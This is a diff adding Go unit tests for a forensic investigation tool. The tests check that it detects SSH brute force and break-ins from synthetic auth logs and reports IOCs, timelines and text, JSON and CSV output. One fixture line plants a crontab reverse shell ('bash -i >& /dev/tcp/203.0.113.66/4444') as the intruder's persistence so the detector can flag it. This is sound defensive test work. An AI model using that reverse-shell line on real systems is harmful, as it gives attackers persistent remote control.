@@ -1,0 +1,173 @@
+package investigate
+
+import (
+	"bytes"
+	"context"
+	"encoding/csv"
+	"encoding/json"
+	"fmt"
+	"os"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/nowwhat/nowwhat/internal/check"
+	"github.com/nowwhat/nowwhat/internal/fixture"
+)
+
+func investigateRoot(t *testing.T, r *fixture.Root) *Report {
+	t.Helper()
+	rep, err := Run(context.Background(), Options{Check: check.Options{Root: r.Dir}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return rep
+}
+
+func rules(rep *Report) map[string]int {
+	out := map[string]int{}
+	for _, f := range rep.Findings {
+		out[f.Rule]++
+	}
+	return out
+}
+
+// TestLogHubOpenSSH: the LogHub OpenSSH sample is a brute force with no break-in, and must be
+// reported as such.
+func TestLogHubOpenSSH(t *testing.T) {
+	data, err := os.ReadFile("../../../shared/testdata/loghub/OpenSSH/OpenSSH_2k.log")
+	if err != nil {
+		t.Skip("../shared/testdata/loghub not present: ", err)
+	}
+	r := fixture.Debian(t)
+	r.File("/var/log/auth.log", string(data), 0o640)
+	r.Chtimes("/var/log/auth.log", time.Date(2026, 12, 31, 0, 0, 0, 0, time.UTC))
+	rep := investigateRoot(t, r)
+	got := rules(rep)
+	if got["ssh.bruteforce"]+got["ssh.spray"] == 0 {
+		t.Fatalf("no brute force reported: %v", got)
+	}
+	if got["entry.ssh-bruteforce"] != 0 || rep.Entry.Vector == "ssh-bruteforce" {
+		t.Fatalf("a break-in was reported where there is none: %+v", rep.Entry)
+	}
+	for _, f := range rep.Findings {
+		if (f.Rule == "ssh.bruteforce" || f.Rule == "ssh.spray") && f.Severity.String() != "info" {
+			t.Errorf("guessing that never succeeded is not an alarm: %s %s", f.Severity, f.Title)
+		}
+	}
+	if !strings.Contains(strings.Join(rep.Narrative, " "), "tried to guess SSH passwords without getting in") {
+		t.Errorf("narrative: %v", rep.Narrative)
+	}
+	t.Logf("%d brute-force sources, %d sprays; entry %s", got["ssh.bruteforce"], got["ssh.spray"], rep.Entry.Vector)
+}
+
+func syslog(t time.Time, host, msg string) string {
+	return t.UTC().Format("Jan _2 15:04:05") + " " + host + " " + msg + "\n"
+}
+
+// TestBruteForceBreakIn: guessing followed by a success from the same address, then persistence,
+// is named as the way in, with the address, the account and the indicators.
+func TestBruteForceBreakIn(t *testing.T) {
+	r := fixture.Debian(t)
+	r.File("/etc/timezone", "Etc/UTC\n", 0o644)
+	t0 := time.Now().UTC().Add(-30 * time.Minute).Truncate(time.Second)
+	var log strings.Builder
+	// An admin who mistypes once: not a brute force.
+	log.WriteString(syslog(t0.Add(-2*time.Hour), "web1", "sshd[10]: Failed password for alice from 192.0.2.10 port 5000 ssh2"))
+	log.WriteString(syslog(t0.Add(-2*time.Hour+20*time.Second), "web1", "sshd[10]: Accepted password for alice from 192.0.2.10 port 5000 ssh2"))
+	for i := 0; i < 40; i++ {
+		user := []string{"admin", "oracle", "deploy", "test"}[i%4]
+		log.WriteString(syslog(t0.Add(time.Duration(i)*time.Second), "web1", fmt.Sprintf("sshd[%d]: Failed password for %s from 203.0.113.66 port %d ssh2", 100+i, user, 40000+i)))
+	}
+	log.WriteString(syslog(t0.Add(41*time.Second), "web1", "sshd[200]: Accepted password for deploy from 203.0.113.66 port 41000 ssh2"))
+	log.WriteString(syslog(t0.Add(42*time.Second), "web1", "sshd[200]: pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)"))
+	r.File("/var/log/auth.log", log.String(), 0o640)
+	r.User("deploy", 1001, "/home/deploy", "/bin/bash", "$y$j9T$salt$hash")
+	// What the intruder left afterwards.
+	r.File("/var/spool/cron/crontabs/deploy", "* * * * * bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'\n", 0o600)
+
+	rep := investigateRoot(t, r)
+	if rep.Entry.Vector != "ssh-bruteforce" || rep.Entry.Confidence != "high" {
+		t.Fatalf("entry %+v", rep.Entry)
+	}
+	if strings.Join(rep.Entry.SourceIPs, ",") != "203.0.113.66" || strings.Join(rep.Entry.Users, ",") != "deploy" {
+		t.Errorf("entry addresses %v users %v", rep.Entry.SourceIPs, rep.Entry.Users)
+	}
+	got := rules(rep)
+	if got["entry.ssh-bruteforce"] != 1 {
+		t.Errorf("findings %v", got)
+	}
+	for _, f := range rep.Findings {
+		if f.Rule == "entry.ssh-bruteforce" && (f.User != "deploy" || f.SourceIP != "203.0.113.66" || f.Time == "" || len(f.Attack) == 0) {
+			t.Errorf("entry finding lacks fields: %+v", f)
+		}
+		if f.SourceIP == "192.0.2.10" && f.Rule == "entry.ssh-bruteforce" {
+			t.Error("an operator's typo counted as a brute force")
+		}
+	}
+	if !contains(rep.IOCs.IPs, "203.0.113.66") || !contains(rep.IOCs.Paths, "/var/spool/cron/crontabs/deploy") {
+		t.Errorf("iocs %+v", rep.IOCs)
+	}
+	if rep.First.IsZero() || rep.First.After(t0.Add(time.Minute)) {
+		t.Errorf("first malicious event %v", rep.First)
+	}
+	// Renderings.
+	var text bytes.Buffer
+	rep.WriteText(&text, TextOptions{})
+	for _, want := range []string{"WHAT HAPPENED", "password guessing over SSH", "203.0.113.66", "WAY IN: ssh-bruteforce", "TIMELINE"} {
+		if !strings.Contains(text.String(), want) {
+			t.Errorf("text lacks %q:\n%s", want, text.String())
+		}
+	}
+	var js bytes.Buffer
+	rep.WriteJSON(&js)
+	var parsed map[string]any
+	if err := json.Unmarshal(js.Bytes(), &parsed); err != nil {
+		t.Fatal(err)
+	}
+	for _, k := range []string{"entry", "findings", "timeline", "iocs"} {
+		if _, ok := parsed[k]; !ok {
+			t.Errorf("json lacks %s", k)
+		}
+	}
+	entry := parsed["entry"].(map[string]any)
+	for _, k := range []string{"vector", "confidence", "source_ips", "users", "time"} {
+		if _, ok := entry[k]; !ok {
+			t.Errorf("json entry lacks %s", k)
+		}
+	}
+	var c bytes.Buffer
+	rep.WriteCSV(&c)
+	recs, err := csv.NewReader(&c).ReadAll()
+	if err != nil || len(recs) < 3 || strings.Join(recs[0][:5], ",") != "time,source,host,event,detail" {
+		t.Fatalf("csv: %v %v", recs[:1], err)
+	}
+}
+
+func TestTimelineWindow(t *testing.T) {
+	r := fixture.Debian(t)
+	t0 := time.Now().UTC().Add(-48 * time.Hour)
+	r.File("/var/log/auth.log", syslog(t0, "web1", "sshd[1]: Accepted publickey for alice from 192.0.2.10 port 1 ssh2: ED25519 SHA256:abc")+
+		syslog(t0.Add(24*time.Hour), "web1", "sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/bash"), 0o640)
+	rep, err := Run(context.Background(), Options{Check: check.Options{Root: r.Dir}, Since: t0.Add(12 * time.Hour)})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, e := range rep.Timeline {
+		if e.Time.Before(t0.Add(12 * time.Hour)) {
+			t.Errorf("row before --since: %+v", e)
+		}
+	}
+	if rules(rep)["privilege.sudo-shell"] != 1 {
+		t.Errorf("sudo to a shell not reported: %v", rules(rep))
+	}
+}
+
+func contains(xs []string, x string) bool {
+	for _, y := range xs {
+		if y == x {
+			return true
+		}
+	}
+	return false
+}
